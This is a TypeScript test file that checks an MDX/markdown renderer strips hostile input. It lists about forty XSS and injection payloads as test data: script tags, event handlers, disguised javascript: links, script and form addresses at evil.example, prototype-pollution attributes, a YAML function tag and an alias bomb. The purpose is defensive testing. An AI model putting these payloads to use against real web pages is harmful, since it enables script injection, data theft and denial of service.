import { expect, test } from 'vitest'
import { MDX_TAGS } from '../../../../shared/markdown/mdx-tags'
import { nodesOf, render } from './helpers/tree'

const HTML = new Set(
  (
    'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 ' +
    'hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th ' +
    'thead time tr tt u ul var wbr'
  ).split(' '),
)
const PROPERTIES = new Set(
  (
    'id lang dir title href dataFootnoteRef dataFootnoteBackref ariaLabel alt dataSrc width height className dataTitle open type ' +
    'disabled checked start reversed dataFootnotes align colSpan rowSpan scope dateTime kind dataTitled dataName dataInline dataSlug'
  ).split(' '),
)

/** Fails unless a page is nothing but text, known elements and harmless properties. */
function expectNeutral(source: string): void {
  const article = render(source)
  for (const node of nodesOf(article)) {
    expect(['root', 'element', 'text']).toContain(node.type)
    if (node.type !== 'element') continue
    const name = node.tagName ?? ''
    expect(HTML.has(name) || MDX_TAGS.some((tag) => tag === name), name).toBe(true)
    for (const [key, value] of Object.entries(node.properties ?? {})) {
      expect(PROPERTIES.has(key), `${name} ${key}`).toBe(true)
      if (key === 'href' || key === 'dataSrc') expect(String(value)).toMatch(/^(?:https?:\/\/|mailto:|#)/)
      if (key === 'className')
        expect(String(value)).toMatch(/^(?:language-.*|task-list-item|contains-task-list|)$/)
      if (key === 'id') expect(String(value)).toMatch(/^at-/)
    }
  }
  expect(
    article.chunks.length === 0 ||
      article.text !== '' ||
      nodesOf(article).some((node) => node.tagName === 'img'),
  ).toBe(true)
  expect(Reflect.get(globalThis, 'PWN')).toBeUndefined()
  expect(Reflect.get(Object.prototype, 'polluted')).toBeUndefined()
}

const HOSTILE: readonly (readonly [string, string])[] = [
  ['script', 'a\n\n<script>globalThis.PWN = 1</script>\n\nb'],
  ['script in a line', 'a <script>globalThis.PWN = 1</script> b'],
  ['script with a source, never closed', '<script src="https://evil.example/x.js" />\n\nb'],
  ['handler', '<img src=x onerror="globalThis.PWN=1"> text'],
  ['JSX handler', '<button onClick={() => { globalThis.PWN = 1 }}>press</button>'],
  ['javascript link', '[x](javascript:globalThis.PWN=1)'],
  ['javascript link with entities', '[x](&#106;avascript&colon;alert(1))'],
  ['javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript link in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  [
    'vbscript, data and file links',
    '[x](vbscript:x) [y](data:text/html,<script>1</script>) [z](file:///etc/passwd)',
  ],
  [
    'links of the program',
    '[x](app://offprint/index.html) [y](blob:https://x/y) [z](offprint-handbook:/a.md)',
  ],
  ['card with a bad address', '<Card title="t" href="javascript:alert(1)">c</Card>'],
  ['link reference', '[x][y]\n\n[y]: javascript:alert(1)'],
  ['frame', '<iframe srcdoc="<script>1</script>" src="javascript:alert(1)"></iframe> after'],
  ['object and embed', '<object data="x.swf"><embed src="data:text/html,x"></object> after'],
  ['style element', '<style>* { display: none }</style>\n\nafter'],
  ['style attribute', '<div style="position:fixed;inset:0">over</div>'],
  ['class', '<div class="dialog" className="dialog">x</div>'],
  ['drawing with a script', '<svg onload="alert(1)"><script>1</script><use href="data:x"/></svg>\n\nafter'],
  ['math', '<math><mtext><img src=x onerror=alert(1)></mtext></math>\n\nafter'],
  ['expression', '{(() => { globalThis.PWN = 1 })()}\n\nafter'],
  ['expression in a line', 'a {globalThis.PWN = 1} b'],
  ['statement', 'export const x = (globalThis.PWN = 1)\n\nafter'],
  ['spread', '<div {...{dangerouslySetInnerHTML: {__html: "<script>1</script>"}}}>x</div>'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">\n\nafter'],
  ['form', '<form action="https://evil.example"><input name="q" formaction="x"><button>go</button></form>'],
  ['base and link', '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">\n\n[a](b)'],
  [
    'ids of the program',
    '<p id="root">x</p>\n\n## __proto__\n\n## constructor\n\n<a id="window" name="body">y</a>',
  ],
  ['prototype attributes', '<Card __proto__={{polluted: 1}} constructor="x" toString="y" title="t">c</Card>'],
  [
    'prototype names',
    '<constructor>x</constructor> <__proto__>y</__proto__> <hasOwnProperty>z</hasOwnProperty>',
  ],
  [
    'picture sources',
    '<picture><source srcset="https://evil.example/x.png"><img src="y.png" srcset="z.png 2x"></picture> a',
  ],
  ['picture from data', '![x](data:image/svg+xml;base64,AAAA)'],
  ['template and noscript', '<template><script>1</script></template><noscript>no</noscript>\n\nafter'],
  ['plaintext and xmp', '<plaintext>\n\n<xmp><script>1</script></xmp>\n\nafter'],
  ['video', '<video src="https://evil.example/v.mp4" poster="p.png" autoplay></video>'],
  ['our own elements by name', '<mdx-card href="javascript:alert(1)" onclick="x">c</mdx-card>'],
  ['NUL and bidi', 'a\0b \u202etxt\u202c <a href="java\0script:alert(1)">x</a>'],
  [
    'front matter',
    '---\ntitle: !!js/function "function () { globalThis.PWN = 1 }"\n__proto__: {polluted: 1}\n---\ntext',
  ],
  ['expression of digits', `<Card title={[${'1'.repeat(3_000)}x]}>c</Card>`],
  ['alias bomb', `---\na: &a [x,x]\nb: &b [*a,*a,*a]\ntitle: *b\n---\ntext`],
  ['code language', '```"><script>alert(1)</script>\nx\n```\n\n```js onclick=alert(1) title="<b>"\ny\n```'],
]

test.each(HOSTILE)('%s is neutral', (_, source) => {
  expectNeutral(source)
})

test('words around hostile parts stay readable', () => {
  expect(render('before <script>x()</script> after **bold**').text).toMatch(/^before .*after bold$/)
  expect(render('<button onClick={() => {}}>press</button>').text).toBe('press')
})
